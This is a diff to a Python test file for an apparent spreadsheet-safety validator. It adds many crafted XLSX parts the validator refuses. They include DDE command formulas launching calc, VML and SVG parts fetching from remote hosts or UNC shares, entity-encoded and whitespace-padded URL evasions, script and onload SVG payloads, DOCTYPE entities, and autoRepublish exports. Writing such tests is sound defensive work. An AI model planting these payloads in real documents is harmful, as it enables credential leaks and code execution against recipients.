@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import gzip
 import io
 import re
 import zipfile
@@ -22,6 +23,7 @@ pytestmark = pytest.mark.edition
 Parts = dict[str, bytes]
 Change = Callable[[Parts], None]
 MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml."
+VML, DRAWING = (f"application/vnd.openxmlformats-officedocument.{kind}" for kind in ("vmlDrawing", "drawing+xml"))
 OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
 
 
@@ -82,6 +84,22 @@ def after_data(xml: bytes) -> Change:
     return of_sheet(lambda name: in_part(name, b"</sheetData>", b"</sheetData>" + xml))
 
 
+def without_kinds(parts: Parts) -> None:
+    """Take the list of content types out."""
+    del parts["[Content_Types].xml"]
+
+
+def vml(inner: str) -> Change:
+    """Add a drawing of notes."""
+    return part("xl/drawings/v.vml", f'<xml xmlns:v="urn:v" xmlns:x="urn:x">{inner}</xml>'.encode(), VML)
+
+
+def svg(inner: bytes) -> Change:
+    """Add a picture that is drawn by lines."""
+    head = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
+    return part("xl/media/i.svg", head + inner + b"</svg>", "image/svg+xml")
+
+
 EXTERNAL = ' TargetMode="External"'
 MASHUP = '<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
 REFUSED: dict[str, tuple[Change, str]] = {
@@ -120,7 +138,36 @@ REFUSED: dict[str, tuple[Change, str]] = {
     "a document type in UTF-16": (part("customXml/item7.xml", f'<!DOCTYPE a [<!ENTITY b "c">]>{MASHUP.partition("?>")[2]}'.encode("utf-16-le"), "", f"{OFFICE}customXml"), "document type"),
     "a part in UTF-16 without its mark": (part("xl/theme/theme9.xml", "<a/>".encode("utf-16-le"), f"{MAIN}theme+xml"), "UTF-8"),
     "a picture of a note that stands elsewhere": (part("xl/drawings/v.vml", b'<xml><v:fill o:href="http://192.0.2.1/x"/></xml>', "application/vnd.openxmlformats-officedocument.vmlDrawing"), "embedded"),
-    "no list of kinds": (lambda parts: parts.pop("[Content_Types].xml") and None, "Content_Types"),
+    "a picture of a note that stands elsewhere, in references to letters": (vml('<v:fill src="&#104;ttp&#x3a;//192.0.2.1/x"/>'), "embedded"),
+    "a picture of a note on a share, in references to letters": (vml('<v:imagedata src="&#92;&#92;192.0.2.1\\b.png"/>'), "embedded"),
+    "a picture of a note that stands elsewhere, far behind its name": (vml(f'<v:fill src{" " * 30}={" " * 30}"{" " * 30}http://192.0.2.1/x"/>'), "embedded"),
+    "a picture of a note that a longer scheme names": (vml('<v:shape href="search-ms:query=x&amp;crumb=location:192.0.2.1"/>'), "embedded"),
+    "a picture of a note within a style": (vml('<v:shape style="background:url( http://192.0.2.1/x )"/>'), "embedded"),
+    "a document type in a note": (part("xl/drawings/v.bin", b'<!DOCTYPE xml [<!ENTITY a "http://192.0.2.1/">]><xml><v:fill src="&a;"/></xml>', VML), "embedded"),
+    "a note that starts a macro of another workbook": (vml("<x:ClientData><x:FmlaMacro>'\\\\192.0.2.1\\[b.xls]S'!Go</x:FmlaMacro></x:ClientData>"), "another workbook"),
+    "a note that shows another workbook, in references to letters": (vml("<x:FmlaPict >&#91;3&#93;S!A1</x:FmlaPict>"), "another workbook"),
+    "a note whose formula stands in CDATA": (vml("<x:FmlaTxbx><![CDATA[cmd|'/C calc'!A0]]></x:FmlaTxbx>"), "DDE"),
+    "a formula of a note with a comment within it": (vml("<x:FmlaMacro>'\\\\192.0.2.1\\[b.xls<!-- -->]S'!Go</x:FmlaMacro>"), "embedded"),
+    "a formula of a note with an attribute": (vml("<x:FmlaMacro a='>\"'>cmd|'/C calc\"'!A0</x:FmlaMacro>"), "embedded"),
+    "a formula of a note behind a long prefix": (vml(f"<{'p' * 200}:FmlaMacro xmlns:{'p' * 200}='urn:x'>[1]!Go</{'p' * 200}:FmlaMacro>"), "embedded"),
+    "an object of a note behind a long prefix": (vml(f"<{'p' * 200}:OLEObject/>"), "embedded"),
+    "a document type where no name tells of XML": (part("xl/drawings/d.dat", b'<!DOCTYPE d [<!ENTITY a "x">]><d:sp xmlns:d="urn:d" textlink="&a;"/>', DRAWING), "document type"),
+    "a formula of a pivot table": (part("xl/p.xml", b'<p:cacheField xmlns:p="urn:p" name="a" formula="WEBSERVICE(A1)"/>', f"{MAIN}pivotCacheDefinition+xml"), "WEBSERVICE"),
+    "a sheet that is published at each saving": (after_data(b'<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="\\\\192.0.2.1\\a.htm" autoRepublish="1"/></webPublishItems>'), "is published"),
+    "a workbook that is published at each saving": (in_part("xl/workbook.xml", b"</workbook>", b'<webPublishObjects count="1"><webPublishObject id="1" divId="a" destinationFile="http://192.0.2.1/a.htm" autoRepublish="1"/></webPublishObjects></workbook>'), "is published"),
+    "a picture that is a program": (part("xl/media/i.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n", "image/x-eps"), "picture that"),
+    "a program that is called a picture": (part("xl/media/i.png", b"\xc5\xd0\xd3\xc6\x1e", "image/png"), "picture that"),
+    "a picture that asks another machine": (svg(b'<image xlink:href="http://192.0.2.1/x.png"/>'), "picture that"),
+    "a picture that asks a share": (svg(b'<feImage href="\\\\192.0.2.1\\x.png"/>'), "picture that"),
+    "a picture with a script": (svg(b"<script>alert(1)</script>"), "picture that"),
+    "a picture that acts when it is shown": (svg(b'<g onload="alert(1)"/>'), "picture that"),
+    "a picture whose look stands elsewhere": (svg(b'<style>@import "//192.0.2.1/x.css";</style>'), "picture that"),
+    "a picture whose fill stands elsewhere": (svg(b'<g style="fill:url(http://192.0.2.1/x.svg#a)"/>'), "picture that"),
+    "a picture with a document type": (part("xl/media/i.svg", b'<!DOCTYPE svg SYSTEM "http://192.0.2.1/x.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml"), "picture that"),
+    "a picture with a style sheet that stands elsewhere": (part("xl/media/i.svg", b'<?xml-stylesheet href="http://192.0.2.1/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml"), "picture that"),
+    "a drawing that is called a photograph": (part("xl/media/i.png", b'\xef\xbb\xbf <svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "image/png"), "picture that"),
+    "a packed drawing": (part("xl/media/i.emz", gzip.compress(b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'), "image/x-emz"), "picture that"),
+    "no list of kinds": (without_kinds, "Content_Types"),
 }  # fmt: skip
 FORMULAS = [
     "WEBSERVICE(\"http://192.0.2.1/?\"&A1)", "_xlfn.WEBSERVICE(A1)", "webservice (A1)", "cmd|'/C calc'!A0", "'cmd'|'/C calc'!A0", "RTD(\"a\",,\"b\")",
@@ -203,6 +250,9 @@ def test_a_workbook_with_links_to_the_web_and_a_sensitivity_label_is_read(sound:
         target(f"{OFFICE}hyperlink", "https://example.org/a", EXTERNAL), target(f"{OFFICE}hyperlink", "mailto:a@example.org", EXTERNAL),
         part("docMetadata/LabelInfo.xml", b"<x/>", "application/vnd.ms-office.classificationlabels+xml", "http://schemas.microsoft.com/office/2020/02/relationships/classificationlabels", of="_rels/.rels"),
         part("customXml/item1.xml", b"<x/>", "", f"{OFFICE}customXml"),
+        vml('<v:shape type="#t" style="background:url(#a)"><v:imagedata o:relid="rId1"/><x:ClientData><x:FmlaLink>$A$1</x:FmlaLink></x:ClientData></v:shape>'),
+        svg(b'<style>.a{fill:url(#b)}</style><use xlink:href="#b"/><a xlink:href=""/><image href="data:image/png;base64,AAAA"/><text>http://example.org onload=</text>'),
+        part("xl/media/i.png", b"\x89PNG", "image/png"), part("xl/media/i.emz", gzip.compress(b"\x01\0\0\0"), "image/x-emz"),
         part("xl/drawings/d.xml", b'<d:sp xmlns:d="urn:d" macro="[0]!Left" textlink=""/>', "application/vnd.openxmlformats-officedocument.drawing+xml"),
     ):  # fmt: skip
         change(parts)
